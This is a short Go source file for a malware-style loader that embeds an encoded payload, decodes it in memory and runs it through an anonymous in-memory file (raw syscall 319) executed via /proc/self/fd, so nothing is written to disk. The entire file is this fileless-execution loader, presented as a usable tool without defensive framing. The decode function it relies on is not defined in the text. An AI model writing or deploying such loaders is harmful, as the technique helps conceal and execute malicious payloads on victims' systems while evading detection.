// A loader in Go: the payload is embedded, decoded in memory and run from an anonymous file.
package main

import (
	_ "embed"
	"os"
	"strconv"
	"syscall"
	"unsafe"
)

//go:embed payload.bin
var payload []byte

func main() {
	plain := decode(payload)
	name := [1]byte{}
	file, _, failed := syscall.Syscall(319, uintptr(unsafe.Pointer(&name[0])), 1, 0)
	if failed != 0 {
		os.Exit(1)
	}
	for len(plain) > 0 {
		n, err := syscall.Write(int(file), plain)
		if err != nil {
			os.Exit(1)
		}
		plain = plain[n:]
	}
	_ = syscall.Exec("/proc/self/fd/"+strconv.Itoa(int(file)), os.Args, os.Environ())
	os.Exit(1)
}
